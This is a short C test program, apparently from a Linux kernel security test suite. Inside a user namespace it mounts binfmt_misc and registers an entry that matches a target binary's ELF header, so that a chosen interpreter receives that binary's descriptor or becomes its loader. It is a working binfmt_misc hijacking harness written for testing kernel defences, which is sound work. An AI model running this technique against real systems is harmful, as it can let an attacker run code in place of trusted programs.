// SPDX-License-Identifier: GPL-2.0
/*
 * binfmt: attacks with the attacker's own binfmt_misc: run X in a user
 * namespace in which another program is registered as its interpreter.
 *
 *	binfmt FLAGS INTERPRETER DIRECTORY WHAT
 *
 * binfmt_misc is mounted on DIRECTORY. FLAGS are the flags of the binfmt_misc
 * entry: O hands the interpreter a descriptor of X (P11c); T makes X the
 * executable of the interpreter (P13); and L makes the interpreter X's loader
 * (P14). T and L exist since 7.3.
 *
 * gcc: -static
 */
#define _GNU_SOURCE
#include "attack.h"

int main(int argc, char **argv)
{
	unsigned char header[64];
	char entry[1024], path[256];
	size_t n, i;
	int fd;

	alarm(20);
	if (argc != 5) {
		fprintf(stderr, "usage: binfmt FLAGS INTERPRETER DIRECTORY WHAT\n");
		return 2;
	}
	enter_user_ns(CLONE_NEWNS);
	check("binfmt_misc", mount("binfmt_misc", argv[3], "binfmt_misc", 0, NULL));

	/*
	 * X's ELF header is the magic of the entry: no other file has the same
	 * entry point and section offsets.
	 */
	fd = check("open", open(X, O_RDONLY | O_CLOEXEC));
	if (read(fd, header, sizeof(header)) != sizeof(header))
		failed("read");
	n = snprintf(entry, sizeof(entry), ":x:M::");
	for (i = 0; i < sizeof(header); i++)
		n += snprintf(entry + n, sizeof(entry) - n, "\\x%02x", header[i]);
	snprintf(entry + n, sizeof(entry) - n, "::%s:%s", argv[2], argv[1]);
	snprintf(path, sizeof(path), "%s/register", argv[3]);
	fd = check("register", open(path, O_WRONLY | O_CLOEXEC));
	check("register", write(fd, entry, strlen(entry)));

	run(X, argv[4]);
}
